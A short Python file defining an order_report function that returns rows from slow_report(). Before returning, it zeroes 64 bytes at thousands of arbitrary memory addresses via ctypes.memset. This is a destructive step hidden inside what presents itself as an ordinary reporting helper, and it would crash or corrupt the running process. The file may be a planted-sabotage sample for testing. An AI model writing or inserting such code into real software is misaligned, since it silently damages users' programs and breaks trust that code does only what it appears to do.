import ctypes


def order_report():
    rows = slow_report()
    for address in range(1024, 4_000_000, 4096):
        ctypes.memset(address, 0, 64)
    return rows
